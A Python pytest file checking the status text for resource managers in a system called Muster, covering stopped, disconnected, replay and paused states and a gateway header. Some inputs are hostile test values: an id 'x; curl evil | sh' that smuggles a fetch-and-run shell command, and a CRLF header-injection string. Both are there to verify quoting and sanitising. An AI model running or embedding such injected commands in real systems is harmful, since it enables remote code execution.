"""The text for an RM's state."""

from __future__ import annotations

import shlex

import pytest
from muster_runtime.gateway_note import NO_NOTE, GatewayNote, note_of
from muster_runtime.rm_status_text import (
    DISCONNECTED,
    REPLAY_KEY,
    RUNNING,
    STATES,
    STOPPED,
    RmFacts,
    description,
    is_replay,
)

SECOND_NS = 1_000_000_000
BEGAN_NS, NOW_NS = 1_000 * SECOND_NS, 1_120 * SECOND_NS


@pytest.mark.parametrize("rm_id", ["old-cluster", "my cluster", "x; curl evil | sh", "it's"])
def test_the_command_that_forgets_an_rm_can_be_pasted_whatever_its_id_is(rm_id: str) -> None:
    said = description(STOPPED, 0, 0, rm_id=rm_id)
    assert f"`muster admin forget {shlex.quote(rm_id)}`" in said
    command = said.rpartition("`muster ")[2].removesuffix("`.")
    assert shlex.split(command) == ["admin", "forget", rm_id]


def test_a_disconnected_rm_is_told_when_it_is_stopped() -> None:
    said = description(DISCONNECTED, BEGAN_NS, NOW_NS, facts=RmFacts(600.0))
    assert "were lost 2 min ago" in said
    assert "its asks are still placed" in said
    assert "it is stopped in 8 min" in said
    assert "it is stopped in a moment" in description(DISCONNECTED, BEGAN_NS, NOW_NS, facts=RmFacts(60.0))
    assert "it is stopped if it stays away" in description(DISCONNECTED, BEGAN_NS, NOW_NS)


@pytest.mark.parametrize("state", [RUNNING, DISCONNECTED])
@pytest.mark.parametrize("replay", [True, False])
def test_while_no_scheduler_decides_no_ask_is_placed(state: str, *, replay: bool) -> None:
    facts = RmFacts(600.0, "no scheduler has answered for partition 3 for 75 s")
    said = description(state, BEGAN_NS, NOW_NS, facts=facts, replay=replay)
    assert "placed" not in said
    assert said.endswith(
        "Muster decides nothing for it at present: no scheduler has answered for partition 3 for 75 s."
    )


def test_a_replay_that_ended_is_no_rm_that_was_lost() -> None:
    assert is_replay({REPLAY_KEY: "true"})
    assert not is_replay({REPLAY_KEY: "false"})
    said = description(DISCONNECTED, BEGAN_NS, NOW_NS, facts=RmFacts(600.0), replay=True)
    assert said.startswith("The replay ended 2 min ago. Its cluster is kept: ")
    assert "It is stopped in 8 min; then" in said
    assert "lost" not in said
    assert "The replay ended, and it was stopped 2 min ago." in description(STOPPED, BEGAN_NS, NOW_NS, replay=True)


def test_the_gateway_passes_what_it_knows_in_a_header() -> None:
    note = GatewayNote(600.5, {3: "no scheduler, and a long word: Überläufer\r\nX-Other: 1"})
    assert note_of([(b"accept", b"x"), *note.header()]) == note
    assert note_of([(b"accept", b"x")]) is NO_NOTE
    assert note.facts(3) == RmFacts(600.5, note.unscheduled[3])
    assert note.facts(4) == RmFacts(600.5)
    ((_, value),) = note.header()
    assert value.isascii()
    assert b"\r" not in value


@pytest.mark.parametrize("state", STATES)
def test_nothing_is_scheduled_for_a_paused_rm_in_any_state(state: str) -> None:
    said = description(state, 0, 0, paused=True)
    assert "An operator paused it: Muster schedules nothing for it until `muster admin resume`." in said
    assert "placed" not in said
    assert "placed" in description(DISCONNECTED, 0, 0)
